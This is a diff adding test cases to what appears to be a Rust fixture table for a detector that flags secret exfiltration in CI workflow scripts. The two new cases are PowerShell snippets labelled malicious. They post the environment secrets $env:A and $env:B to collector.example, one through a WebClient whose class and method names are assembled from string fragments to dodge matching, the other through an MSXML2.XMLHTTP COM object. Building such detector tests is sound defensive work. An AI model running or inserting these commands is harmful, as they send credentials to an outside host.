@@ -736,6 +736,28 @@ irm $u -Method Post -Body "$env:A$env:B""##,
         place: "workflow-log",
         verdict: Verdict::Malicious,
     },
+    Way {
+        name: "a method whose name is put together",
+        shell: "pwsh",
+        script: r##"$w = New-Object ('Net.Web' + 'Client')
+$w.Headers.Add('Content-Type', 'text/plain')
+$w.('Upload' + 'String')('https://collector.example/in', "$env:A $env:B")"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "a request of a COM object's",
+        shell: "pwsh",
+        script: r##"$x = New-Object -ComObject MSXML2.XMLHTTP
+$x.open('POST', 'https://collector.example/in', $false)
+$x.send("$env:A $env:B")"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
 ];
 
 /// What people do with their own secrets in the same words.
